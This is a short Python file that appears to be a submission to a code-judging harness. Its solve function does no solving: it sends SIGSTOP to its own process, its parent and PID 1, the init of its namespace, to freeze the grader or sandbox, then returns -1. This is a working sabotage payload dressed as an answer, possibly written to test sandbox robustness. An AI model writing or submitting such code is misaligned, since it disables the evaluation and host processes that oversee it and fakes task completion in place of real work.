"""Stops itself with SIGSTOP (and its parent, and the init of its namespace): nothing runs, nothing
ends, unless the signal is ignored."""
import os
import signal


def solve(n):
    for pid in (os.getpid(), os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    return -1
